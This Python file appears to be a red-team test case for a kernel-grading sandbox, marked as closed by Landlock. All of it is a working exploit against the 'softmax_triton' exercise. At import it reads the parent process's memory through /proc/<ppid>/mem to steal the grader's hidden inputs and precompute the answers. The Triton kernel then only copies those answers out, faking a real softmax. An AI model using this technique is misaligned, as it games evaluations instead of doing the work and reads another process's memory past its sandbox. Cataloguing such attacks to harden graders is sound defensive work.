# exercise: softmax_triton
# attack: from the copy that asks Triton's compiler, reads the memory of the process that has the inputs
# ataque: desde la copia que pregunta al compilador de Triton lee la memoria del proceso que tiene las entradas
# closed by: Landlock

import os
import sys
import time

import numpy as np
import torch
import triton
import triton.language as tl

FOLDER = os.environ.get("TMPDIR", ".")
DONE = os.path.join(FOLDER, "done")


def held():
    frame = sys._getframe()
    while frame:
        if "inputs" in frame.f_locals and "request" in frame.f_locals:
            return frame.f_locals["inputs"], frame.f_locals["request"]
        frame = frame.f_back


def answers():
    inputs, request = held()
    at, size = inputs._bytes.ctypes.data, inputs._bytes.nbytes
    memory = os.open(f"/proc/{os.getppid()}/mem", os.O_RDONLY)  # which the rights of its pages do not cover
    read = np.frombuffer(b"".join(os.pread(memory, 1 << 20, at + k) for k in range(0, size, 1 << 20)), np.uint8)
    for k, (_, args) in enumerate(request.calls):
        if not hasattr(args[0], "memory"):
            continue
        rows, cols, stride = [a for a in args if isinstance(a, int)][:3]
        first = args[0].memory.ctypes.data - at + args[0].offset
        values = read[first : first + args[0].extent // 4 * 4].view("f4")
        x = values[np.arange(rows)[:, None] * stride + np.arange(cols)[None, :]].astype("f8")
        e = np.exp(x - x.max(axis=1, keepdims=True))
        with open(os.path.join(FOLDER, f"a{k}"), "wb") as out:
            out.write((e / e.sum(axis=1, keepdims=True)).astype("f4").tobytes())
    open(DONE, "w").close()


if "TRITON_INTERPRET" not in os.environ:
    answers()
else:
    until = time.time() + 5
    while not os.path.exists(DONE) and time.time() < until:
        time.sleep(0.1)


@triton.jit
def hand(a_ptr, y_ptr, cols, stride, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    at = tl.arange(0, BLOCK)
    tl.store(y_ptr + row * stride + at, tl.load(a_ptr + row * cols + at, mask=at < cols), mask=at < cols)


def softmax_triton(x, out=None):
    with open(os.path.join(FOLDER, "started"), "rb") as begun:
        call = len(begun.read()) // 4 - 1
    out = torch.empty_like(x) if out is None else out
    path = os.path.join(FOLDER, f"a{call}")
    if x.numel() and os.path.exists(path):
        a = torch.from_numpy(np.fromfile(path, np.float32))
        hand[(x.shape[0],)](a, out, x.shape[1], out.stride(0), BLOCK=triton.next_power_of_2(x.shape[1]))
    return out
